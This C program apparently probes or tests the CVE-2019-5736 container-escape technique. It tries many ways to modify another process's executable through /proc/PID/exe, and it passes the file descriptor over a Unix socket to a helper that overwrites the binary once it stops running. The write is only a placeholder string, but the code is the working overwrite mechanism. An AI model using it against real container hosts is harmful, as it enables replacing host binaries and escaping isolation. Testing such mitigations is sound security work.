/*
 * proc-exe: CVE-2019-5736: overwrites the program of another process, which is a file of the host, by
 * /proc/PID/exe. A running program cannot be written to; but a descriptor of it outlives the process,
 * and can be opened again for writing then.
 *
 *   proc-exe open PID           tries all that changes a file at once, and says why not
 *   proc-exe send PID SOCKET    passes the descriptor to a neighbour, who survives us, and ends
 *   proc-exe take SOCKET        the neighbour: writes as soon as the program does not run any more
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#define GET_FLAGS 0x80086601L /* FS_IOC_GETFLAGS */
#define SET_FLAGS 0x40086602L /* FS_IOC_SETFLAGS */

static int could;

static void report(const char *way, int result)
{
    printf("%s: %s\n", way, result < 0 ? strerror(errno) : "done");
    could |= result >= 0;
}

static int open_all_ways(const char *path)
{
    char again[64];
    long flags = 0;
    struct stat status;
    int handle = open(path, O_PATH | O_CLOEXEC), reader = open(path, O_RDONLY | O_CLOEXEC);
    if (handle < 0 || reader < 0 || fstat(reader, &status) < 0)
        return report("open", -1), 1;
    snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
    report("open to write", open(path, O_WRONLY | O_CLOEXEC));
    report("open again to write", open(again, O_WRONLY | O_CLOEXEC));
    report("open again to append", open(again, O_RDWR | O_APPEND | O_CLOEXEC));
    snprintf(again, sizeof again, "/proc/self/fd/%d", reader);
    report("open again from a reader", open(again, O_RDWR | O_TRUNC | O_CLOEXEC));
    report("truncate", truncate(path, status.st_size));
    report("mode", fchmod(reader, status.st_mode & 07777));
    report("owner", fchown(reader, status.st_uid, status.st_gid));
    report("time", futimens(reader, NULL));
    report("attribute", fsetxattr(reader, "trusted.escape", "", 0, 0));
    if (syscall(SYS_ioctl, reader, GET_FLAGS, &flags) == 0)
        report("flags", (int)syscall(SYS_ioctl, reader, SET_FLAGS, &flags));
    return !could;
}

static int connect_or_listen(const char *path, int listens)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int link = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    if (!listens)
        return connect(link, (struct sockaddr *)&address, sizeof address) < 0 ? -1 : link;
    unlink(path);
    if (bind(link, (struct sockaddr *)&address, sizeof address) < 0 || listen(link, 1) < 0)
        return -1;
    puts("ready");
    fflush(stdout);
    return accept(link, NULL, NULL);
}

/* Sends the descriptor that *FD holds, or receives one into it. */
static int pass(int link, int *fd, int sends)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof *fd)];
    } control;
    char byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1};
    memset(&control, 0, sizeof control);
    control.header.cmsg_len = CMSG_LEN(sizeof *fd);
    control.header.cmsg_level = SOL_SOCKET;
    control.header.cmsg_type = SCM_RIGHTS;
    message.msg_control = &control;
    message.msg_controllen = sizeof control;
    if (sends)
        memcpy(CMSG_DATA(&control.header), fd, sizeof *fd);
    if ((sends ? sendmsg(link, &message, 0) : recvmsg(link, &message, 0)) != 1)
        return -1;
    if (!sends)
        memcpy(fd, CMSG_DATA(&control.header), sizeof *fd);
    return 0;
}

static int send_to(const char *socket_path, const char *path)
{
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0)
        return report("open", -1), 1;
    int link = connect_or_listen(socket_path, 0);
    return link < 0 || pass(link, &handle, 1) < 0 ? 2 : 0;
}

static int take_from(const char *socket_path)
{
    char again[64], byte;
    int handle = -1, file = -1, link = connect_or_listen(socket_path, 1);
    if (link < 0 || pass(link, &handle, 0) < 0)
        return 2;
    while (read(link, &byte, 1) > 0) /* until the sender has ended */
        ;
    snprintf(again, sizeof again, "/proc/self/fd/%d", handle);
    for (int tries = 0; tries < 500; tries++) {
        file = open(again, O_WRONLY | O_CLOEXEC);
        if (file >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    report("open again to write", file);
    if (file >= 0)
        report("overwrite", (int)write(file, "overwritten", 11));
    return !could;
}

int main(int argc, char **argv)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argc > 2 ? argv[2] : "");
    if (argc == 3 && strcmp(argv[1], "open") == 0)
        return open_all_ways(path);
    if (argc == 4 && strcmp(argv[1], "send") == 0)
        return send_to(argv[3], path);
    if (argc == 3 && strcmp(argv[1], "take") == 0)
        return take_from(argv[2]);
    return 2;
}
